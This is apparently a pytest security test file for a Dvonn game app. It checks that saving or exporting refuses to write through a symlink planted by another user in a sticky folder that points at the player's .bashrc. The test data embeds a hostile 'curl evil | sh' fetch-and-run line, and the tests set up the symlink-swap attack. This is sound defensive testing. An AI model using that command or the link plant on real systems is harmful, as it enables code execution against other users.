"""Issue 51, point 1: saving never writes through a link that another user planted.

A record opened from a shared sticky folder (mode 1777) whose owner swaps it for a link to the
player's own ``.bashrc`` before Ctrl+S must not overwrite ``.bashrc``; nor may Save as… onto
such a link, nor a PNG.  The cases run with two real users: the player and the user ``daemon``
who owns the link (and, for the engine's write, the player is the user ``nobody``, so that the
kernel's permission checks count).  They need root to give files away and to drop to nobody.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PyQt6.QtWidgets import QFileDialog
from pytestqt.qtbot import QtBot

from app.main_window import MainWindow
from engine import records
from engine.board import Cell
from tests.app.test_window import click, make_window
from tests.conftest import REPO_ROOT
from tests.reliability.conftest import NOBODY

OTHER = 1  # the user daemon: the other user of the machine, who plants the link
DVN = '[White "Ann"]\n[Black "Bob"]\n\n1. E3 F3 2. G3 *\n'
BASHRC = "alias ls='ls --color'\n"
# What the other user wants the player's shell to run: a record whose comment spans lines.
HOSTILE = '[White "Ann"]\n[Black "Bob"]\n\n{\ncurl evil | sh\n} 1. E3 *\n'

# Run as root, the engine imported, then as the user nobody: save a record at argv[1].
SAVE_AS_NOBODY = f"""
import os, sys
from engine import records
record = records.read_record({HOSTILE!r})
os.setgroups([])
os.setgid({NOBODY})
os.setuid({NOBODY})
try:
    records.save_record(record, sys.argv[1])
except OSError as error:
    print(error.strerror)
    sys.exit(1)
"""


@pytest.fixture
def machine() -> Iterator[Path]:
    """A folder every user may enter, with ``shared/`` (1777, like /tmp) and the player's
    ``home/`` holding its ``.bashrc``; skips when not root (files cannot be given away)."""
    if os.geteuid() != 0:
        pytest.skip("two real users need root: a link must belong to another user")
    root = Path(tempfile.mkdtemp(prefix="dvonn-machine-"))
    root.chmod(0o755)
    shared = root / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    home = root / "home"
    home.mkdir()
    (home / ".bashrc").write_text(BASHRC, encoding="utf-8")
    yield root
    shutil.rmtree(root)


def plant_link(shared: Path, name: str, target: Path) -> Path:
    """The other user's link ``shared/name`` → ``target`` (where the other user's record was)."""
    link = shared / name
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    os.lchown(link, OTHER, OTHER)
    return link


def test_the_engine_refuses_a_link_of_another_user_in_a_sticky_folder(machine: Path) -> None:
    home = machine / "home"
    for path in (home, home / ".bashrc"):
        os.chown(path, NOBODY, NOBODY)
    link = plant_link(machine / "shared", "game.dvn", home / ".bashrc")
    done = subprocess.run(
        [sys.executable, "-c", SAVE_AS_NOBODY, str(link)],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "symbolic link that belongs to another user" in done.stdout
    assert (home / ".bashrc").read_text(encoding="utf-8") == BASHRC
    assert link.is_symlink() and os.readlink(link) == str(home / ".bashrc")
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]  # no temporary file left


def test_a_link_of_ones_own_is_replaced_and_its_target_left_alone(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.dvn"
    target.write_text(DVN, encoding="utf-8")
    link = tmp_path / "game.dvn"
    link.symlink_to(target)
    records.save_record(records.read_record(HOSTILE), link)
    assert not link.is_symlink()
    assert len(records.load_record(link).moves) == 1
    assert target.read_text(encoding="utf-8") == DVN


@pytest.fixture
def window(qtbot: QtBot, tmp_path: Path, dialogs: list[str]) -> Iterator[MainWindow]:
    win = make_window(qtbot, tmp_path)
    yield win
    win.controller.shutdown()


@pytest.mark.gui
def test_ctrl_s_after_the_record_was_swapped_for_a_link(
    qtbot: QtBot, window: MainWindow, machine: Path, dialogs: list[str]
) -> None:
    shared = machine / "shared"
    record = shared / "game.dvn"
    record.write_text(DVN, encoding="utf-8")
    os.chown(record, OTHER, OTHER)
    assert window.files.open_path(str(record))
    click(qtbot, window, Cell.A1)
    plant_link(shared, "game.dvn", machine / "home" / ".bashrc")
    window.actions_.save.trigger()
    assert any("belongs to another user" in text for text in dialogs), dialogs
    assert (machine / "home" / ".bashrc").read_text(encoding="utf-8") == BASHRC
    assert sorted(p.name for p in shared.iterdir()) == ["game.dvn"]


@pytest.mark.gui
def test_save_as_onto_a_link_of_another_user(
    qtbot: QtBot,
    window: MainWindow,
    machine: Path,
    dialogs: list[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    link = plant_link(machine / "shared", "game.dvn", machine / "home" / ".bashrc")
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *args: (str(link), ""))
    click(qtbot, window, Cell.E3)
    window.actions_.save_as.trigger()
    assert any("already exists" in text for text in dialogs), dialogs  # "Replace?" → Yes
    assert any("belongs to another user" in text for text in dialogs), dialogs
    assert (machine / "home" / ".bashrc").read_text(encoding="utf-8") == BASHRC


@pytest.mark.gui
def test_a_picture_onto_a_link_of_another_user(
    qtbot: QtBot, window: MainWindow, machine: Path, dialogs: list[str]
) -> None:
    link = plant_link(machine / "shared", "board.png", machine / "home" / ".bashrc")
    assert not window.files.export_png_to(str(link))
    assert any("belongs to another user" in text for text in dialogs), dialogs
    assert (machine / "home" / ".bashrc").read_text(encoding="utf-8") == BASHRC


@pytest.mark.gui
def test_the_screenshot_option_refuses_a_link_of_another_user(machine: Path) -> None:
    link = plant_link(machine / "shared", "shot.png", machine / "home" / ".bashrc")
    done = subprocess.run(
        [sys.executable, "-m", "app", "--screenshot", str(link), "--size", "640x480"],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "belongs to another user" in done.stderr
    assert (machine / "home" / ".bashrc").read_text(encoding="utf-8") == BASHRC
